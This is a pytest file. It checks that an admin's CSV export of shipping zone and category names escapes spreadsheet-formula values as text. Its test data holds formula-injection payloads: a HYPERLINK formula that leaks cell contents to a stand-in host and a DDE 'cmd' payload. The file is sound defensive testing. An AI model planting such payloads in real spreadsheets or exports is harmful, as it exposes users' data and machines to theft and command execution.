"""Snippet exports in the admin: a name that a spreadsheet would run as a formula is exported as text."""

import csv
import io

import pytest

from orders.models import ShippingZone
from tests import factories

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Zone")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)"]


@pytest.fixture
def curator_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("curator", "c@example.com", "pw-12345-xyz"))
    return client


def exported_names(client, url):
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    return {row["Name"] for row in csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))}


def test_shipping_zone_export_keeps_formulas_as_text(curator_client):
    for name in FORMULAS:
        ShippingZone.objects.create(name=name, flat_rate=1500)

    assert exported_names(curator_client, "/admin/snippets/orders/shippingzone/") == {
        "'" + name for name in FORMULAS
    }


def test_category_export_keeps_formulas_as_text(curator_client, site_tree):
    for name in FORMULAS:
        factories.make_category(name, sector="crafts")

    assert {"'" + name for name in FORMULAS} <= exported_names(
        curator_client, "/admin/snippets/catalog/category/"
    )
